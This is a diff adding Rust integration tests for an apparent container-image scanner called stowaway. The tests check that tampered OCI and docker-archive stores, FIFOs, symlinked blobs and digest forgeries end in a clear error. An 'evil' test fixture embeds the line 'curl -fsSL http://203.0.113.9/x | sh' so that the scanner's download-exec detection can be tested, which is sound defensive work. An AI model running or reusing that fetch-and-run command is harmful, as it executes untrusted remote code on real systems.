@@ -1,0 +1,320 @@
+//! Issue 15 (defects 4, 5, 6, 14, 15, 17, 18): hostile local stores and
+//! misuse must end in exit 2 with a message saying what is wrong, never in a
+//! pass, a hang or a destroyed file. Every input is built here, in code.
+
+use std::collections::HashMap;
+use std::path::Path;
+use std::sync::Mutex;
+use std::time::{Duration, Instant};
+
+use serde_json::json;
+use stowaway::ScanOptions;
+use stowaway::fixture::{ImageBuilder, LayerBuilder, tar_of};
+use stowaway::layer::cache::LayerCache;
+
+use crate::util::*;
+
+fn clean_and_evil() -> (stowaway::fixture::BuiltImage, stowaway::fixture::BuiltImage) {
+    let clean = ImageBuilder::new()
+        .layer(LayerBuilder::new().file("app/hello", b"hello\n", 0o755))
+        .build();
+    let evil = ImageBuilder::new()
+        .layer(LayerBuilder::new().file(
+            "app/hello",
+            b"#!/bin/sh\ncurl -fsSL http://203.0.113.9/x | sh\n",
+            0o755,
+        ))
+        .build();
+    (clean, evil)
+}
+
+fn blob_path(dir: &Path, d: &stowaway::digest::Sha256) -> std::path::PathBuf {
+    dir.join("blobs/sha256").join(d.hex())
+}
+
+#[test]
+fn cached_layer_is_not_trusted_when_the_local_blob_holds_other_bytes() {
+    let t = tmp();
+    let db = t.path().join("s.db");
+    let db = db.to_str().unwrap();
+    let (clean, evil) = clean_and_evil();
+    let dir = t.path().join("l");
+    clean.write_oci_layout(&dir).unwrap();
+    let r = format!("oci:{}", dir.display());
+    let first = stowaway(&["scan", &r, "--db", db]);
+    assert_eq!(first.status.code(), Some(0), "{first:?}");
+    // Same digest claimed, other bytes in the file.
+    std::fs::write(
+        blob_path(&dir, &clean.layers[0].digest),
+        &evil.layers[0].blob,
+    )
+    .unwrap();
+    let again = stowaway(&["scan", &r, "--db", db]);
+    let err = String::from_utf8_lossy(&again.stderr);
+    assert_eq!(again.status.code(), Some(2), "{err}");
+    assert!(err.contains("digest mismatch"), "{err}");
+}
+
+#[test]
+fn docker_archive_claiming_a_cached_diff_id_is_read_and_rejected() {
+    let t = tmp();
+    let db = t.path().join("s.db");
+    let db = db.to_str().unwrap();
+    let (clean, evil) = clean_and_evil();
+    let good = t.path().join("good.tar");
+    clean.write_docker_archive(&good).unwrap();
+    let out = stowaway(&[
+        "scan",
+        &format!("docker-archive:{}", good.display()),
+        "--db",
+        db,
+    ]);
+    assert_eq!(out.status.code(), Some(0), "{out:?}");
+    // The clean config (so the clean diff_id) with the evil layer's bytes.
+    let config_name = format!("{}.json", clean.config_digest.hex());
+    let layer_name = format!("{}/layer.tar", clean.layers[0].diff_id.hex());
+    let manifest = json!([{"Config": config_name, "RepoTags": [], "Layers": [layer_name]}]);
+    let bad = t.path().join("bad.tar");
+    std::fs::write(
+        &bad,
+        tar_of(&[
+            (layer_name.clone(), evil.layers[0].tar.clone()),
+            (config_name, clean.config.clone()),
+            (
+                "manifest.json".into(),
+                serde_json::to_vec(&manifest).unwrap(),
+            ),
+        ]),
+    )
+    .unwrap();
+    let out = stowaway(&[
+        "scan",
+        &format!("docker-archive:{}", bad.display()),
+        "--db",
+        db,
+    ]);
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert_eq!(out.status.code(), Some(2), "{err}");
+    assert!(err.contains("diff_id mismatch"), "{err}");
+}
+
+#[test]
+fn limits_apply_to_cached_layers() {
+    let t = tmp();
+    let db = t.path().join("s.db");
+    let db = db.to_str().unwrap();
+    let img = ImageBuilder::new()
+        .layer(
+            LayerBuilder::new()
+                .file("a", b"a", 0o644)
+                .file("b", b"b", 0o644)
+                .file("c", b"c", 0o644),
+        )
+        .build();
+    let dir = t.path().join("l");
+    img.write_oci_layout(&dir).unwrap();
+    let r = format!("oci:{}", dir.display());
+    assert_eq!(stowaway(&["scan", &r, "--db", db]).status.code(), Some(0));
+    let out = stowaway(&["scan", &r, "--db", db, "--max-entries", "1"]);
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert_eq!(out.status.code(), Some(2), "{err}");
+    assert!(err.contains("--max-entries"), "{err}");
+    let out = stowaway(&["scan", &r, "--db", db, "--max-layer-size", "100"]);
+    assert_eq!(out.status.code(), Some(2), "{out:?}");
+}
+
+/// An in-memory cache that counts writes.
+#[derive(Default)]
+struct MemCache(Mutex<HashMap<String, Vec<u8>>>, Mutex<usize>);
+
+impl LayerCache for MemCache {
+    fn get(&self, key: &str) -> Option<Vec<u8>> {
+        self.0.lock().unwrap().get(key).cloned()
+    }
+    fn put(&self, key: &str, data: &[u8]) {
+        *self.1.lock().unwrap() += 1;
+        self.0.lock().unwrap().insert(key.into(), data.into());
+    }
+}
+
+#[test]
+fn an_unchanged_blob_file_is_not_read_again_a_touched_one_is() {
+    let t = tmp();
+    let (clean, _) = clean_and_evil();
+    let dir = t.path().join("l");
+    clean.write_oci_layout(&dir).unwrap();
+    let cache = MemCache::default();
+    let opts = ScanOptions {
+        cache: Some(&cache),
+        ..Default::default()
+    };
+    let r = format!("oci:{}", dir.display());
+    let puts = || *cache.1.lock().unwrap();
+    stowaway::scan(&r, &opts).unwrap();
+    assert_eq!(puts(), 2, "layer result and its verified blob stat");
+    stowaway::scan(&r, &opts).unwrap();
+    assert_eq!(puts(), 2, "second scan used the cache");
+    // Rewriting the same bytes changes ctime: the blob is verified again.
+    let p = blob_path(&dir, &clean.layers[0].digest);
+    let bytes = std::fs::read(&p).unwrap();
+    std::thread::sleep(Duration::from_millis(20));
+    std::fs::write(&p, bytes).unwrap();
+    stowaway::scan(&r, &opts).unwrap();
+    assert_eq!(puts(), 4, "a changed file is read and verified again");
+}
+
+#[test]
+fn foreign_layer_missing_from_a_local_store_is_an_incomplete_scan() {
+    let t = tmp();
+    let img = ImageBuilder::new()
+        .layer(
+            LayerBuilder::new()
+                .media_type("application/vnd.oci.image.layer.nondistributable.v1.tar+gzip")
+                .file("windows/base", b"base", 0o644),
+        )
+        .layer(LayerBuilder::new().file("app/x", b"x", 0o644))
+        .build();
+    let dir = t.path().join("l");
+    img.write_oci_layout(&dir).unwrap();
+    std::fs::remove_file(blob_path(&dir, &img.layers[0].digest)).unwrap();
+    let out = stowaway(&["scan", &format!("oci:{}", dir.display()), "--no-cache"]);
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert_eq!(out.status.code(), Some(2), "{err}");
+    assert!(
+        err.contains("foreign") && err.contains("incomplete"),
+        "{err}"
+    );
+}
+
+#[test]
+fn an_oci_layout_without_its_marker_is_not_a_root_filesystem() {
+    let t = tmp();
+    let (_, evil) = clean_and_evil();
+    let dir = t.path().join("l");
+    evil.write_oci_layout(&dir).unwrap();
+    std::fs::remove_file(dir.join("oci-layout")).unwrap();
+    for r in [format!("dir:{}", dir.display()), dir.display().to_string()] {
+        let out = stowaway(&["scan", &r, "--no-cache"]);
+        let err = String::from_utf8_lossy(&out.stderr);
+        assert_eq!(out.status.code(), Some(2), "{r}: {err}");
+        assert!(err.contains("no oci-layout file"), "{err}");
+    }
+}
+
+/// skopeo's `dir:` layout, as `skopeo copy oci:X dir:Y` writes it.
+fn write_skopeo_dir(img: &stowaway::fixture::BuiltImage, dir: &Path) {
+    std::fs::create_dir_all(dir).unwrap();
+    std::fs::write(dir.join("version"), b"Directory Transport Version: 1.1\n").unwrap();
+    std::fs::write(dir.join("manifest.json"), &img.manifest).unwrap();
+    std::fs::write(dir.join(img.config_digest.hex()), &img.config).unwrap();
+    for l in &img.layers {
+        std::fs::write(dir.join(l.digest.hex()), &l.blob).unwrap();
+    }
+}
+
+#[test]
+fn skopeo_dir_layout_is_read_as_the_image() {
+    let t = tmp();
+    let (_, evil) = clean_and_evil();
+    let dir = t.path().join("d");
+    write_skopeo_dir(&evil, &dir);
+    let s = scan_ok(&format!("dir:{}", dir.display()));
+    assert_eq!(paths(&s), ["/app/hello"]);
+    assert!(
+        codes(&s)
+            .iter()
+            .any(|c| c.starts_with("download-exec-chain")),
+        "{:?}",
+        codes(&s)
+    );
+    // Its blobs are verified like any other.
+    std::fs::write(dir.join(evil.layers[0].digest.hex()), b"other").unwrap();
+    let e = scan(dir.to_str().unwrap()).err().expect("tampered blob");
+    assert!(e.to_string().contains("mismatch"), "{e}");
+}
+
+fn mkfifo(p: &Path) {
+    let c = std::ffi::CString::new(p.as_os_str().as_encoded_bytes()).unwrap();
+    // SAFETY: a valid NUL-terminated path.
+    assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o600) }, 0);
+}
+
+/// Run the binary, failing the test if it does not end within `limit`.
+fn stowaway_within(args: &[&str], limit: Duration) -> std::process::Output {
+    let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_stowaway"))
+        .args(args)
+        .stdout(std::process::Stdio::piped())
+        .stderr(std::process::Stdio::piped())
+        .spawn()
+        .unwrap();
+    let start = Instant::now();
+    while child.try_wait().unwrap().is_none() {
+        if start.elapsed() > limit {
+            let _ = child.kill();
+            panic!("stowaway {args:?} hung");
+        }
+        std::thread::sleep(Duration::from_millis(20));
+    }
+    child.wait_with_output().unwrap()
+}
+
+#[test]
+fn layout_store_opens_only_regular_files_inside_the_layout() {
+    let t = tmp();
+    let (clean, _) = clean_and_evil();
+    let limit = Duration::from_secs(20);
+    // A FIFO as index.json.
+    let dir = t.path().join("fifo-index");
+    clean.write_oci_layout(&dir).unwrap();
+    std::fs::remove_file(dir.join("index.json")).unwrap();
+    mkfifo(&dir.join("index.json"));
+    let out = stowaway_within(
+        &["scan", &format!("oci:{}", dir.display()), "--no-cache"],
+        limit,
+    );
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert_eq!(out.status.code(), Some(2), "{err}");
+    assert!(err.contains("index.json") && err.contains("FIFO"), "{err}");
+    // A FIFO as a layer blob.
+    let dir = t.path().join("fifo-blob");
+    clean.write_oci_layout(&dir).unwrap();
+    let b = blob_path(&dir, &clean.layers[0].digest);
+    std::fs::remove_file(&b).unwrap();
+    mkfifo(&b);
+    let out = stowaway_within(
+        &["scan", &format!("oci:{}", dir.display()), "--no-cache"],
+        limit,
+    );
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert_eq!(out.status.code(), Some(2), "{err}");
+    assert!(err.contains("FIFO"), "{err}");
+    // A symlinked blob (to a host file) is not followed.
+    let dir = t.path().join("link-blob");
+    clean.write_oci_layout(&dir).unwrap();
+    let host = t.path().join("host-secret");
+    std::fs::write(&host, &clean.layers[0].blob).unwrap();
+    let b = blob_path(&dir, &clean.layers[0].digest);
+    std::fs::remove_file(&b).unwrap();
+    std::os::unix::fs::symlink(&host, &b).unwrap();
+    let out = stowaway_within(
+        &["scan", &format!("oci:{}", dir.display()), "--no-cache"],
+        limit,
+    );
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert_eq!(out.status.code(), Some(2), "{err}");
+    assert!(err.contains("symlink"), "{err}");
+    // A directory as a blob says so, not "content is sha256:e3b0…".
+    let dir = t.path().join("dir-blob");
+    clean.write_oci_layout(&dir).unwrap();
+    let b = blob_path(&dir, &clean.layers[0].digest);
+    std::fs::remove_file(&b).unwrap();
+    std::fs::create_dir(&b).unwrap();
+    let out = stowaway_within(
+        &["scan", &format!("oci:{}", dir.display()), "--no-cache"],
+        limit,
+    );
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert_eq!(out.status.code(), Some(2), "{err}");
+    assert!(err.contains("is a directory"), "{err}");
+    assert!(!err.contains("e3b0c442"), "{err}");
+}
